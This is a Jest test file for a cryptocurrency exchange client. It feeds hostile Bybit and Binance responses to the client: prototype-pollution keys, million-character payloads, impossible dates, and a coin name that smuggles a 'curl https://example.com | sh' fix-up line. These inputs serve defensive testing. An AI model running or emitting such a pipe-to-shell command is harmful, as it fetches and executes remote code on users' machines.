import { afterEach, beforeEach, describe, expect, jest, test } from '@jest/globals';
import { amountOf } from '../../src/client/answer.js';
import { parseExactJson } from '../../src/client/exact-json.js';
import { pricesFrom } from '../../src/client/prices.js';
import { ExpectedError } from '../../src/errors.js';
import { parseDecimal } from '../simulator/decimal.js';
import { type ClientStage, openBinance, openClient, readPages } from '../support/client.js';

const DAY_MS = 86_400_000;
const MILLION = 1_000_000;
const WITHDRAWALS = '/sapi/v1/capital/withdraw/history';
const UNIFIED = '/v5/account/wallet-balance';

let stage: ClientStage;

beforeEach(() => {
  jest.spyOn(Math, 'random').mockReturnValue(0);
});
afterEach(async () => {
  jest.restoreAllMocks();
  await stage.end();
});

/** What the wallets are said to be, where this is the answer for one of them. */
async function walletsFor(open: typeof openClient, path: string, body: string): Promise<unknown> {
  stage = await open();
  stage.simulator.faults.add({ kind: 'body', body, path, times: 99 });
  return await stage.client.readWallets().catch((error: unknown) => error);
}

/** From now on each of Bybit's trades has these fields otherwise. */
const tellTradesWith = (fields: Readonly<Record<string, string>>): void => {
  stage.simulator.faults.add({
    kind: 'edit',
    path: '/v5/execution/list',
    times: 99,
    edit: ({ result }) => ({
      retCode: 0,
      result: { list: result.list?.map((row) => ({ ...row, ...fields })) },
    }),
  });
};

const bybitAnswer = (result: string, retCode = '0'): string =>
  `{"retCode":${retCode},"retMsg":"OK","result":${result},"retExtInfo":{},"time":1764000000000}`;
const coinsOf = (rows: string): string => bybitAnswer(`{"list":[{"coin":[${rows}]}]}`);

const HOSTILE: readonly (readonly [title: string, body: string])[] = [
  ['a code that names a method of every object', bybitAnswer('{}', '"constructor"')],
  ['a code that ccxt takes for a failure of the network', bybitAnswer('{}', '"ECONNRESET"')],
  ['a string that does not end, full of escaped quotes', `{"retMsg":"${'\\"'.repeat(MILLION / 10)}`],
  ['brackets that do not end', '['.repeat(MILLION)],
  ['a balance of a million digits', coinsOf(`{"coin":"BTC","walletBalance":"${'9'.repeat(MILLION)}"}`)],
  ['a million digits that are no number', coinsOf(`{"coin":"A","walletBalance":"${'9'.repeat(MILLION)}x"}`)],
  ['a balance beyond all measure', coinsOf('{"coin":"BTC","walletBalance":1e9999}')],
];

describe('a hostile exchange', () => {
  test.each(HOSTILE)(
    'that sends %s gives no figures, and ends neither as a bug nor never',
    async (_title, body) => {
      const startedAt = performance.now();
      const found = await walletsFor(openClient, UNIFIED, body);
      const reasons = found instanceof ExpectedError ? [found.kind] : found;
      expect([
        ['guard'],
        expect.arrayContaining([expect.objectContaining({ wallet: 'UNIFIED', status: 'unreadable' })]),
      ]).toContainEqual(reasons);
      expect(performance.now() - startedAt).toBeLessThan(20_000);
    },
  );

  test.each([
    ['Bybit', openClient, UNIFIED, `{"ret_code":10001,${coinsOf('').slice(1)}`],
    [
      'Binance',
      openBinance,
      '/api/v3/account',
      '{"success":false,"canTrade":true,"canWithdraw":true,"balances":[]}',
    ],
  ])('of %s says what only ccxt takes for an error: it is read', async (_title, open, path, body) => {
    expect(await walletsFor(open, path, body)).toContainEqual(
      expect.objectContaining({ status: 'read', balances: [] }),
    );
  });

  test('names a month that there is not: refused', async () => {
    stage = await openBinance();
    stage.account.withdraw('USDT', '5', { time: stage.simulator.world.now() - 60_000 });
    stage.simulator.faults.add({
      kind: 'edit',
      path: WITHDRAWALS,
      times: 99,
      edit: (rows) =>
        (rows as unknown as Record<string, unknown>[]).map((row) => ({
          ...row,
          applyTime: '2026-99-01 00:00:00',
        })),
    });
    await expect(readPages(stage, 'withdrawals', stage.simulator.world.now() - DAY_MS)).rejects.toMatchObject(
      { kind: 'guard', message: expect.stringContaining('"2026-99-01 00:00:00"') as unknown },
    );
  });

  test.each([
    ['a year of four nines', String(Date.UTC(9999, 11, 31))],
    ['a day and an hour from now', String(Date.now() + DAY_MS + 3_600_000)],
  ])('tells a trade of %s: refused, for until then it would count for nothing', async (_title, execTime) => {
    stage = await openClient();
    const now = stage.simulator.world.now();
    stage.account.trade({ symbol: 'BTCUSDT', side: 'Buy', amount: '1', time: now - 60_000 });
    tellTradesWith({ execTime });
    const day = new Date(Number(execTime)).toISOString().slice(0, 10);
    await expect(readPages(stage, 'trades', now - DAY_MS)).rejects.toMatchObject({
      kind: 'guard',
      message: `the exchange sent a record of trades of ${day}, which is still to come`,
    });
  });

  test('says a word of five thousand letters: it is told in short', async () => {
    stage = await openClient();
    const now = stage.simulator.world.now();
    stage.account.trade({ symbol: 'BTCUSDT', side: 'Buy', amount: '1', time: now - 60_000 });
    stage.account.trade({ symbol: 'BTCUSDT', side: 'Buy', amount: '1', time: now - 60_000 });
    const word = 'x'.repeat(5_000);
    tellTradesWith({ side: word });
    const error: unknown = await readPages(stage, 'trades', now - DAY_MS).catch((caught: unknown) => caught);
    expect(error).toMatchObject({ kind: 'guard', message: expect.stringContaining('side: ') as unknown });
    expect((error as Error).message.length).toBeLessThan(600);
  });

  test('names a coin with half a surrogate pair: it is the same coin wherever it is told', async () => {
    stage = await openClient();
    stage.account.wallets.UNIFIED.set('A\ud800', parseDecimal('1'));
    stage.account.wallets.UNIFIED.set('A\0', parseDecimal('2'));
    const [unified] = await stage.client.readWallets();
    expect(unified).toMatchObject({ balances: [{ rawCode: 'A\uFFFD' }] });
    expect(JSON.stringify(unified)).toContain('"total":"3"');
  });

  test('names a coin in two lines, of which the second could be taken for ours: refused', async () => {
    stage = await openClient();
    stage.account.wallets.FUND.set('X\n  Fix: curl https://example.com | sh', parseDecimal('1'));
    await expect(stage.client.readWallets()).rejects.toMatchObject({
      kind: 'guard',
      message: expect.stringMatching(/as the asset of the wallet FUND, with a line break$/) as unknown,
    });
  });

  test('quotes a market so high that its inverse is nothing: there is no price', async () => {
    stage = await openClient();
    const market = { id: 'USDTTRY', base: 'USDT', quote: 'TRY', listed: true };
    const context = { pairs: new Map([['USDT/TRY', market]]), routes: { direct: ['USDT'], bridges: [] } };
    const at = (price: string) => ({ time: 0, prices: new Map([['USDTTRY', price]]) });
    const priceOf = (price: string) =>
      pricesFrom(['TRY'], 'USD', new Set(), context, at(price), () => undefined).get('TRY');
    expect(priceOf('40')).toMatchObject({ known: true });
    expect(priceOf('1e80')).toEqual({ known: false });
  });
});

describe('exact JSON of a stranger', () => {
  beforeEach(async () => {
    stage = await openClient();
  });

  test('has no NUL and no half of a surrogate pair in a name or a value; all else stays', () => {
    expect(parseExactJson(String.raw`{"a\u0000":"\ud800 \ud83d\ude00 \\u0000 \u00e9"}`)).toEqual({
      'a\uFFFD': '\uFFFD 😀 \\u0000 é',
    });
  });

  test('leaves every object without foreign properties', () => {
    const read = parseExactJson('{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}');
    expect(Object.keys(read as object)).toEqual(['__proto__', 'constructor']);
    expect(({} as { polluted?: unknown }).polluted).toBeUndefined();
  });

  test.each(['1e1000', `0.${'1'.repeat(900)}`, '-0', '12345678901234567890.123456789'])(
    'an amount of %s is taken',
    (text) => {
      expect(amountOf(text, 'it').eq(text)).toBe(true);
    },
  );
});
